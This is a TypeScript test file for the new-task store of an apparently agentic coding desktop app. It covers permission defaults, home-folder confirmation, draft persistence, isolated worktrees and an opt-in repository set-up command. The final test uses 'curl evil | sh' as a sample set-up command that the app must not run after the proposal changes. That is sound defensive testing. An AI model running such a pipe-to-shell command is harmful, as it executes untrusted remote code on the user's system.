import { describe, expect, it } from 'vitest';
import { createApi } from '../../bridge';
import { BridgeError } from '../../bridge/errors';
import { FakeDesk } from '../../app/testing/fakeDesk';
import { createDraftStore, NEW_TASK } from '../drafts/draftStore';
import { createNewTaskStore } from './newTaskStore';
import { draftPermissionDisplay } from './permission';

function setup(init?: (f: FakeDesk) => void) {
  const fake = new FakeDesk();
  init?.(fake);
  const draft = createNewTaskStore(createApi(() => fake));
  draft.setWorkspace('/home/ada/project');
  return { fake, draft, display: () => draftPermissionDisplay(draft.get().permission, draft.get().defaultPermission) };
}

const creates = (f: FakeDesk) => f.calls.filter((c) => c.method === 'Sessions.Create').map((c) => c.req);

describe('the permission display of a new task', () => {
  it('is draft choice ?? backend default ?? an explicit state', () => {
    expect(draftPermissionDisplay(null, { status: 'loading' })).toEqual({ source: 'loading' });
    expect(draftPermissionDisplay(null, { status: 'ready', mode: 'auto' })).toEqual({ source: 'default', mode: 'auto' });
    expect(draftPermissionDisplay('full', { status: 'ready', mode: 'auto' })).toEqual({ source: 'draft', mode: 'full' });
    expect(draftPermissionDisplay(null, { status: 'error', error: null })).toEqual({ source: 'unavailable' });
    expect(draftPermissionDisplay('ask', { status: 'error', error: null })).toEqual({ source: 'draft', mode: 'ask' });
  });

  it('shows the backend default once loaded', async () => {
    const { draft, display } = setup((f) => (f.defaultPermission = 'auto'));
    expect(display()).toEqual({ source: 'loading' });
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'default', mode: 'auto' });
  });

  it('shows "couldn\'t load the default" when the query fails — never a guessed mode', async () => {
    const { fake, draft, display } = setup();
    fake.failNext['Settings.Get'] = new BridgeError('TRANSPORT', 'Failed to fetch');
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'unavailable' });
    // A retry that works shows the default.
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'default', mode: 'ask' });
  });

  it('treats a Settings answer without a valid default as unavailable', async () => {
    const { draft, display } = setup((f) => (f.defaultPermission = null));
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'unavailable' });
  });

  it('asks the backend afresh for every new task', async () => {
    const { fake, draft, display } = setup();
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'default', mode: 'ask' });
    fake.defaultPermission = 'auto';
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'default', mode: 'auto' });
    expect(fake.calls.filter((c) => c.method === 'Settings.Get')).toHaveLength(2);
  });
});

describe('the new-task flow', () => {
  it('sends nothing without a folder, and says so', async () => {
    const { fake, draft } = setup();
    draft.setWorkspace('  ');
    draft.setText('Fix the build');
    expect(await draft.submit()).toBeNull();
    expect(creates(fake)).toEqual([]);
    expect(draft.get().error).toMatchObject({ kind: 'WORKSPACE_REQUIRED' });
    expect(draft.get().text).toBe('Fix the build');
  });

  it('asks before the home folder, and sends confirmHome only once the person said yes', async () => {
    const { fake, draft } = setup();
    draft.setWorkspace('~');
    fake.failNext['Sessions.Create'] = new BridgeError('WORKSPACE_HOME_NEEDS_CONFIRMATION', 'home', { Path: '/home/ada' });
    draft.setText('Tidy my dotfiles');
    expect(await draft.submit()).toBeNull();
    expect(draft.get().homeToConfirm).toBe('/home/ada');
    expect(draft.get().error).toBeNull();
    const s = await draft.submit(true);
    expect(s).not.toBeNull();
    expect(creates(fake)).toEqual([
      { workspace: '~', interactionMode: 'smart' },
      { workspace: '~', interactionMode: 'smart', confirmHome: true },
    ]);
  });

  it('offers the most recent folder only while the person has not chosen one', () => {
    const { draft } = setup();
    draft.suggestWorkspace('/srv/site');
    expect(draft.get().workspace).toBe('/home/ada/project');
    const fresh = createNewTaskStore(createApi(() => new FakeDesk()));
    fresh.suggestWorkspace('/srv/site');
    expect(fresh.get().workspace).toBe('/srv/site');
  });

  it('omits the permission on create when the draft holds none', async () => {
    const { fake, draft } = setup();
    draft.setText('Fix the build');
    const s = await draft.submit();
    expect(s?.permissionMode).toBe('ask');
    expect(creates(fake)).toEqual([{ workspace: '/home/ada/project', interactionMode: 'smart' }]);
    expect(fake.sent).toEqual([{ sessionId: s?.id, text: 'Fix the build' }]);
  });

  it('sends the draft choice once on create, then consumes it after the first send kept its session', async () => {
    const { fake, draft, display } = setup();
    await draft.refreshDefault();
    draft.choosePermission('full');
    draft.setPreference({ interactionMode: 'smart', executionOverride: 'plan' });
    draft.setText('Plan the migration');
    const s = await draft.submit();
    expect(s).not.toBeNull();
    expect(creates(fake)).toEqual([{ workspace: '/home/ada/project', interactionMode: 'smart', executionOverride: 'plan', permissionMode: 'full' }]);
    // Consumed: the next new task starts from the default again, and it never wrote the default.
    expect(draft.get().permission).toBeNull();
    expect(draft.get().text).toBe('');
    expect(fake.defaultPermission).toBe('ask');
    expect(fake.calls.some((c) => c.method === 'Settings.SetDefaultPermission')).toBe(false);
    await draft.refreshDefault();
    expect(display()).toEqual({ source: 'default', mode: 'ask' });
  });

  it('a failed first send leaves the choice (and the text) in the draft and takes the session back', async () => {
    const { fake, draft, display } = setup();
    draft.choosePermission('full');
    draft.setText('Refactor');
    fake.failNext['Composer.Send'] = new BridgeError('PROVIDER_KEY_MISSING', 'No API key for Anthropic.');
    expect(await draft.submit()).toBeNull();
    expect(draft.get().permission).toBe('full');
    expect(draft.get().text).toBe('Refactor');
    expect(draft.get().error).toBeInstanceOf(BridgeError);
    expect(display()).toEqual({ source: 'draft', mode: 'full' });
    expect(fake.sessions).toHaveLength(0);

    // The retry creates again with the same choice; now it is consumed.
    const s = await draft.submit();
    expect(s?.permissionMode).toBe('full');
    expect(creates(fake).map((r) => (r as { permissionMode?: string }).permissionMode)).toEqual(['full', 'full']);
    expect(draft.get().permission).toBeNull();
  });

  it('a failed create leaves the draft as it was', async () => {
    const { fake, draft } = setup();
    draft.choosePermission('auto');
    draft.setText('Hello');
    fake.failNext['Sessions.Create'] = new BridgeError('WORKSPACE_NOT_FOUND', 'The workspace folder /nope does not exist.');
    expect(await draft.submit()).toBeNull();
    expect(draft.get()).toMatchObject({ permission: 'auto', text: 'Hello', sending: false });
    expect(fake.sent).toEqual([]);
  });

  it('sends nothing for an empty message', async () => {
    const { fake, draft } = setup();
    draft.setText('   ');
    expect(await draft.submit()).toBeNull();
    expect(creates(fake)).toEqual([]);
  });

  it('passes a chosen workspace and follows a default changed elsewhere', async () => {
    const { fake, draft, display } = setup();
    const off = draft.start();
    await draft.refreshDefault();
    fake.emit('settings.changed', { ...fake.settings(), defaultPermission: 'auto' });
    expect(display()).toEqual({ source: 'default', mode: 'auto' });
    off();
    draft.setWorkspace(' /work/x ');
    draft.setText('go');
    await draft.submit();
    expect(creates(fake)[0]).toMatchObject({ workspace: '/work/x' });
  });
});

describe('the new task\'s draft', () => {
  it('comes back in a new page, survives a failed first send and goes once the task started', async () => {
    const fake = new FakeDesk();
    const data: Record<string, string> = {};
    const storage = { getItem: (k: string) => data[k] ?? null, setItem: (k: string, v: string) => void (data[k] = v) };
    const page = () => {
      const drafts = createDraftStore({ storage });
      const task = createNewTaskStore(createApi(() => fake), drafts);
      task.setWorkspace('/home/ada/project');
      return { drafts, task };
    };

    const first = page();
    first.task.setText('fix the flaky test');
    first.drafts.flush();

    const second = page();
    expect(second.task.get().text).toBe('fix the flaky test');
    fake.failNext['Composer.Send'] = new BridgeError('INTERNAL', 'boom');
    expect(await second.task.submit()).toBeNull();
    expect(second.drafts.text(NEW_TASK)).toBe('fix the flaky test');

    expect(await second.task.submit()).not.toBeNull();
    expect(second.task.get().text).toBe('');
    second.drafts.flush();
    expect(page().task.get().text).toBe('');
  });
});

describe('an isolated copy', () => {
  it('asks for a worktree only when chosen, and carries changes only with it', async () => {
    const { fake, draft } = setup();
    draft.setText('one');
    await draft.submit();
    draft.setWorkspace('/home/ada/project');
    draft.setIsolated(true);
    draft.setCarry(true);
    draft.setText('two');
    await draft.submit();
    expect(draft.get().isolated).toBe(false);
    draft.setIsolated(true);
    draft.setCarry(true);
    draft.setIsolated(false);
    draft.setWorkspace('/home/ada/project');
    draft.setText('three');
    await draft.submit();
    const [plain, isolated, unchecked] = creates(fake);
    expect(plain).not.toHaveProperty('isolated');
    expect(isolated).toMatchObject({ isolated: true, carryChanges: true, title: 'two' });
    expect(unchecked).not.toHaveProperty('isolated');
    expect(unchecked).not.toHaveProperty('carryChanges');
  });
});

describe('the isolation suggestion', () => {
  it('makes isolated the default in a busy repository, never overrides the person, and hides it outside one', async () => {
    const { fake, draft } = setup();
    fake.isolation = { repository: true, busy: 1, isolate: true, setting: 'busy' };
    await draft.suggestIsolation('/home/ada/project');
    expect(draft.get()).toMatchObject({ repository: true, busy: 1, isolated: true });
    draft.setIsolated(false);
    await draft.suggestIsolation('/home/ada/project');
    expect(draft.get().isolated).toBe(false);
    fake.isolation = { repository: false, busy: 0, isolate: false, setting: 'busy' };
    draft.setIsolated(true);
    await draft.suggestIsolation('/home/ada/project');
    expect(draft.get()).toMatchObject({ repository: false, isolated: false });
  });
});

describe("the repository's set-up command", () => {
  it('runs only when ticked for this task, with the text shown, and the tick never outlives the task', async () => {
    const { fake, draft } = setup();
    fake.isolation = { repository: true, busy: 0, isolate: false, setting: 'busy', repoSetup: 'npm ci' };
    await draft.suggestIsolation('/home/ada/project');
    expect(draft.get()).toMatchObject({ repoSetup: 'npm ci', runRepoSetup: false });
    draft.setIsolated(true);
    draft.setText('not ticked');
    await draft.submit();
    draft.setWorkspace('/home/ada/project');
    await draft.suggestIsolation('/home/ada/project');
    draft.setIsolated(true);
    draft.setRunRepoSetup(true);
    draft.setText('ticked');
    await draft.submit();
    expect(draft.get().runRepoSetup).toBe(false);
    draft.setWorkspace('/home/ada/project');
    await draft.suggestIsolation('/home/ada/project');
    draft.setIsolated(true);
    draft.setRunRepoSetup(true);
    fake.isolation = { repository: true, busy: 0, isolate: false, setting: 'busy', repoSetup: 'curl evil | sh' };
    await draft.suggestIsolation('/home/ada/project');
    draft.setText('proposal changed');
    await draft.submit();
    const [unticked, ticked, changed] = creates(fake);
    expect(unticked).not.toHaveProperty('repoSetup');
    expect(ticked).toMatchObject({ isolated: true, repoSetup: 'npm ci' });
    expect(changed).not.toHaveProperty('repoSetup');
  });
});
